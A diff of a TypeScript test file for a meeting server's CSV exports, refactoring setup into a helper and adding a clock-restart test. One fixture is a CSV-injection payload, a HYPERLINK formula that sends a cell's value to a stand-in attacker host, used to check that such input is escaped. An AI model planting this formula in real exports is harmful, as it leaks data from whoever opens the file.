@@ -6,6 +6,8 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { parseCsv } from '../../shared/programmeCsv.ts';
 import { SESSION, startServer, TOKEN, type TestServer } from './helpers.ts';
 
+const MINUTE = 60_000;
+
 let server: TestServer | null = null;
 afterEach(async () => {
   await server?.close();
@@ -14,21 +16,27 @@ afterEach(async () => {
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
 
+/** A meeting with its floor open, and a phone that has asked for it for `delegation`. */
+async function askedFromThePhone(deviceKey: string, delegation: string): Promise<TestServer> {
+  const started = await startServer();
+  const moderator = await started.moderator();
+  for (const command of [
+    { type: 'session.start' },
+    { type: 'segment.end' },
+    { type: 'floor.open' },
+  ]) {
+    expect(await moderator.command(command)).toMatchObject({ ok: true });
+  }
+  const phone = await started.connect({ deviceKey });
+  expect(
+    await phone.command({ type: 'floor.request', delegation, kind: 'statement' }),
+  ).toMatchObject({ ok: true });
+  return started;
+}
+
 describe('the requests CSV', () => {
   it('writes a formula typed on a phone as text, behind a single quote', async () => {
-    server = await startServer();
-    const moderator = await server.moderator();
-    for (const command of [
-      { type: 'session.start' },
-      { type: 'segment.end' },
-      { type: 'floor.open' },
-    ]) {
-      expect(await moderator.command(command)).toMatchObject({ ok: true });
-    }
-    const phone = await server.connect({ deviceKey: 'phone-of-mallory-0123456789abcdef' });
-    expect(
-      await phone.command({ type: 'floor.request', delegation: HYPERLINK, kind: 'statement' }),
-    ).toMatchObject({ ok: true });
+    server = await askedFromThePhone('phone-of-mallory-0123456789abcdef', HYPERLINK);
 
     const res = await server.http(
       'GET',
@@ -46,23 +54,7 @@ describe('the requests CSV', () => {
 
 describe('the record as CSV', () => {
   it('writes every table, with semicolons when asked, local times named by their zone, and a byte order mark', async () => {
-    server = await startServer();
-    const moderator = await server.moderator();
-    for (const command of [
-      { type: 'session.start' },
-      { type: 'segment.end' },
-      { type: 'floor.open' },
-    ]) {
-      expect(await moderator.command(command)).toMatchObject({ ok: true });
-    }
-    const phone = await server.connect({ deviceKey: 'phone-of-abidjan-0123456789abcdef' });
-    expect(
-      await phone.command({
-        type: 'floor.request',
-        delegation: 'Côte d’Ivoire; Ghana',
-        kind: 'statement',
-      }),
-    ).toMatchObject({ ok: true });
+    server = await askedFromThePhone('phone-of-abidjan-0123456789abcdef', 'Côte d’Ivoire; Ghana');
 
     for (const table of ['turns', 'requests', 'segments']) {
       const res = await fetch(
@@ -96,5 +88,42 @@ describe('the record as CSV', () => {
     expect(comma.text.split('\r\n')[0]).toBe(
       'segment,title,kind,budget_s,planned_s,started_at (Europe/Amsterdam),ended_at (Europe/Amsterdam),actual_s,spoken_s,turns',
     );
+  });
+});
+
+describe('the turns CSV after a restart of the clock', () => {
+  it('counts the speech before the restart in spoken_s, not in paused_s, and says when the clock was restarted', async () => {
+    server = await startServer();
+    const moderator = await server.moderator();
+    const send = async (command: Record<string, unknown>) =>
+      expect(await moderator.command(command)).toMatchObject({ ok: true });
+    await send({ type: 'session.start' });
+    await send({ type: 'speaker.next', start: true });
+    // Five minutes in (10:05 in The Hague), the moderator restarts the clock; the speaker goes on
+    // 20 s later, for two more minutes.
+    server.fake.advance(5 * MINUTE);
+    await send({ type: 'timer.reset' });
+    server.fake.advance(20_000);
+    await send({ type: 'timer.start' });
+    server.fake.advance(2 * MINUTE);
+    await send({ type: 'speaker.finish' });
+
+    const res = await server.http('GET', `/api/sessions/${SESSION}/record?format=csv&table=turns`, {
+      token: TOKEN,
+    });
+    expect(res.status).toBe(200);
+    const [header, row] = parseCsv(res.text, ',');
+    const cell = (column: string) => row?.cells[header?.cells.indexOf(column) ?? -1];
+    expect(cell('spoken_s')).toBe('420');
+    expect(cell('paused_s')).toBe('20');
+    expect(cell('corrected_spoken_s')).toBe('420');
+    expect(cell('restarted_at (Europe/Amsterdam)')).toBe('2016-11-16 10:05:00');
+
+    // The JSON record says the same, in milliseconds.
+    const json = await server.http('GET', `/api/sessions/${SESSION}/record`, { token: TOKEN });
+    expect(json.json.turns[0]).toMatchObject({
+      spokenMs: 7 * MINUTE,
+      restarts: [{ spokenMs: 5 * MINUTE }],
+    });
   });
 });
